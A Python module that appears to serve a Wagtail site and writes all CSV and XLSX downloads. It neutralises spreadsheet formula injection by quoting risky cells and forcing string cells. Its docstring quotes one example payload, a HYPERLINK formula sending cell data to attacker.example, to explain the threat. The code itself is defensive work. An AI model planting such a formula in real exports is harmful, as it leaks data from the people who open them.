"""The one writer of every CSV and XLSX file the site produces, so that no cell can run as a formula.

A spreadsheet treats a cell that begins with `=`, `+`, `-` or `@` as a formula (and some also after a
leading tab, carriage return or spaces, which they strip), so a name such as
`=HYPERLINK("http://attacker.example/?d="&B2,"Larry")` typed by a learner would run on a lead's computer.
Following OWASP's advice on CSV injection, such text is written with a single quote in front, which the
spreadsheet shows as text. Text is always text: in an XLSX every string is a string cell (never a
formula); only values that really are numbers (int, float, Decimal) or dates are written as such.

Nothing else in the project may use `csv.writer` or openpyxl to write a file a person downloads:
tests/security/test_formula_injection.py fails if it does.
"""
import csv
import io
from collections.abc import Iterable
from datetime import date, datetime, time
from decimal import Decimal

CSV_TYPE = "text/csv; charset=utf-8"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# Characters that start a formula (OWASP), and the control characters after which some programs still do.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Leading characters a spreadsheet may strip on import (spaces, line breaks, no-break space) before
# deciding the cell is a formula: text whose first other character starts a formula is neutralised too.
STRIPPED_ON_IMPORT = " \t\r\n\u00a0\ufeff"
NUMBERS = (int, float, Decimal)


def neutralise(text: str) -> str:
    """`text` as it may safely stand in a cell: with a quote in front if it could start a formula."""
    if text[:1] in FORMULA_STARTS or text.lstrip(STRIPPED_ON_IMPORT)[:1] in FORMULA_STARTS:
        return "'" + text
    return text


def is_dangerous(text: str) -> bool:
    """Would a spreadsheet read this cell text as a formula? (For checks and tests.)"""
    return neutralise(text) != text


def _is_number(value) -> bool:
    return isinstance(value, NUMBERS) and not isinstance(value, bool)


def csv_cell(value) -> str:
    """A value as CSV text: numbers as written, None empty, everything else neutralised text."""
    if value is None:
        return ""
    if _is_number(value):
        return str(value)
    if isinstance(value, datetime):
        return value.isoformat(sep=" ", timespec="minutes")
    if isinstance(value, (date, time)):
        return value.isoformat()
    return neutralise(str(value))


def xlsx_value(value):
    """A value as an XLSX cell holds it: a number, a date (without zone), None, or neutralised text."""
    if value is None or _is_number(value):
        return value
    if isinstance(value, datetime):
        return value.replace(tzinfo=None)
    if isinstance(value, (date, time)):
        return value
    return neutralise(str(value))


class CsvFile:
    """A CSV file built row by row; `content()` gives UTF-8 bytes with a byte order mark for Excel."""

    content_type = CSV_TYPE
    extension = "csv"

    def __init__(self):
        self._out = io.StringIO()
        self._writer = csv.writer(self._out)
        self._sheets = 0

    def sheet(self, title: str = "") -> "CsvFile":
        """A CSV has one sheet: a second 'sheet' follows the first after a blank line."""
        if self._sheets:
            self.row([])
        self._sheets += 1
        return self

    def row(self, values: Iterable, *, bold: bool = False) -> None:
        self._writer.writerow([csv_cell(value) for value in values])

    def content(self) -> bytes:
        # A byte order mark so Excel opens the file as UTF-8 (names with accents, the en dash in quarter names).
        return ("\ufeff" + self._out.getvalue()).encode("utf-8")


class XlsxFile:
    """An XLSX workbook built sheet by sheet and row by row, in openpyxl's write-only (streaming) mode.

    A write-only sheet writes its column widths before its first row, and a width is only known once
    every row is, so each sheet's rows wait here until the next sheet starts or the file is saved.
    """

    content_type = XLSX_TYPE
    extension = "xlsx"

    def __init__(self):
        from openpyxl import Workbook

        self._workbook = Workbook(write_only=True)
        self._names: set[str] = set()
        self._title: str | None = None
        self._rows: list[tuple[list, bool]] = []

    def sheet(self, title: str = "Sheet") -> "XlsxFile":
        self._write_sheet()
        self._title = sheet_name(title, self._names)
        return self

    def row(self, values: Iterable, *, bold: bool = False) -> None:
        if self._title is None:
            self.sheet()
        self._rows.append(([xlsx_value(value) for value in values], bold))

    def content(self) -> bytes:
        if self._title is None:
            self.sheet("Report").row(["Nothing to show."])
        self._write_sheet()
        out = io.BytesIO()
        self._workbook.save(out)
        return out.getvalue()

    def _write_sheet(self) -> None:
        if self._title is None:
            return
        from openpyxl.utils import get_column_letter

        sheet = self._workbook.create_sheet(title=self._title)
        for number, width in enumerate(column_widths([values for values, _bold in self._rows]), start=1):
            sheet.column_dimensions[get_column_letter(number)].width = width
        for values, bold in self._rows:
            sheet.append([xlsx_cell(sheet, value, bold=bold) for value in values])
        self._title, self._rows = None, []


# A column is wide enough for its longest cell, within these bounds (in characters): narrow columns still
# fit a heading's first word, and a long free-text answer wraps the view no wider than a screen.
MIN_WIDTH, MAX_WIDTH = 8, 60


def _shown_length(value) -> int:
    if value is None:
        return 0
    if isinstance(value, datetime):
        return 19  # openpyxl writes datetimes as yyyy-mm-dd h:mm:ss
    if isinstance(value, date):
        return 10
    if isinstance(value, float):
        return len(f"{value:.2f}")
    return max((len(line) for line in str(value).splitlines()), default=0)


def column_widths(rows: list[list]) -> list[float]:
    """Each column's width from its longest cell, from MIN_WIDTH to MAX_WIDTH characters.

    A row of a single cell (a sheet's title, a note under a table) spills over the empty cells beside it,
    so it does not widen the first column, unless the sheet has only one column.
    """
    columns = max((len(row) for row in rows), default=0)
    counted = [row for row in rows if len(row) > 1] if columns > 1 else rows
    widths = []
    for index in range(columns):
        longest = max((_shown_length(row[index]) for row in counted if index < len(row)), default=0)
        widths.append(float(min(MAX_WIDTH, max(MIN_WIDTH, longest + 2))))
    return widths


def xlsx_cell(sheet, value, *, bold: bool = False):
    """One write-only cell; text is always a string cell, whatever it looks like."""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font

    cell = WriteOnlyCell(sheet, value=xlsx_value(value))
    if isinstance(cell.value, str):
        cell.data_type = "s"  # openpyxl would otherwise make text starting with "=" a formula
    if bold:
        cell.font = Font(bold=True)
    return cell


def spreadsheet(file_format: str) -> CsvFile | XlsxFile:
    """A new, empty file of the format asked for ("csv" or "xlsx")."""
    if file_format == "xlsx":
        return XlsxFile()
    if file_format == "csv":
        return CsvFile()
    raise ValueError(f"Unknown spreadsheet format {file_format!r}: choose csv or xlsx.")


# Excel's rules for a sheet's name: at most 31 characters, none of these, not starting or ending with
# an apostrophe, not "History" (which it keeps for itself), and unique in the workbook ignoring case.
SHEET_NAME_LIMIT = 31
SHEET_NAME_FORBIDDEN = {"/": "-", "\\": "-", "[": "(", "]": ")", ":": " ", "*": " ", "?": " "}

DANGLING_WORDS = {"a", "an", "and", "at", "by", "each", "for", "from", "in", "of", "on", "or", "the", "to", "with"}


def _shorten(text: str, limit: int) -> str:
    """`text` in at most `limit` characters, cut after a whole word where there is one, no trailing space."""
    if len(text) <= limit:
        return text
    cut = text[: limit + 1].rfind(" ")
    if cut <= 0:  # the first word alone is longer than the limit: cut inside it
        return text[:limit].rstrip(" -'")
    words = text[:cut].split()
    # "Coverage by" reads as cut off; "Coverage" does not.
    while len(words) > 1 and words[-1].casefold() in DANGLING_WORDS:
        words.pop()
    return " ".join(words).rstrip(" -'")


def sheet_name(title: str, used: set) -> str:
    """A name Excel accepts for a sheet, from `title`: tidy, at most 31 characters, not yet in `used`."""
    text = "".join(SHEET_NAME_FORBIDDEN.get(ch, ch) for ch in title)
    text = " ".join(text.split()).strip("'").strip()
    if not text or text.casefold() == "history":
        text = text + " sheet" if text else "Sheet"
    name, number = _shorten(text, SHEET_NAME_LIMIT) or "Sheet", 2
    while name.casefold() in used:
        suffix = f" ({number})"
        name, number = (_shorten(text, SHEET_NAME_LIMIT - len(suffix)) or "Sheet") + suffix, number + 1
    used.add(name.casefold())
    return name


def guard_wagtail_exports() -> None:
    """Make Wagtail's list exports (ReportView, ModelViewSet `list_export`, form submissions) write our cells.

    Wagtail writes its CSV exports without neutralising formulas; those views are Wagtail's, so the
    one place every one of them passes is its SpreadsheetExportMixin's per-row methods, replaced here.
    """
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    if getattr(SpreadsheetExportMixin, "_cells_guarded", False):
        return
    original_preprocess = SpreadsheetExportMixin.preprocess_field_value

    def preprocess_field_value(self, field, value, export_format):
        value = original_preprocess(self, field, value, export_format)
        if export_format == self.FORMAT_CSV:
            return csv_cell(value)
        return xlsx_value(value)

    original_generate = SpreadsheetExportMixin.generate_xlsx_row

    def generate_xlsx_row(self, worksheet, row_dict, date_format=None):
        for cell in original_generate(self, worksheet, row_dict, date_format=date_format):
            if isinstance(cell.value, str):
                cell.data_type = "s"
            yield cell

    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value
    SpreadsheetExportMixin.generate_xlsx_row = generate_xlsx_row
    SpreadsheetExportMixin._cells_guarded = True
